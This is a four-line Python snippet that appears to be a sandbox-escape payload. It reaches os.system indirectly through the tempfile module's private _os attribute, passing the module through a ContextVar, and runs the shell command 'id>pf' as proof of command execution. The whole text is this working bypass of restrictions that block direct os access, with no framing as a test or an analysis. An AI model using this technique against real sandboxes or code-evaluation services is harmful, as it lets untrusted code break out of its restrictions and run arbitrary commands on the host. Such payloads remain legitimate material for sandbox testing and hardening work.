import tempfile, contextvars
v = contextvars.ContextVar("v")
v.set(tempfile)
v.get()._os.system("id>pf")
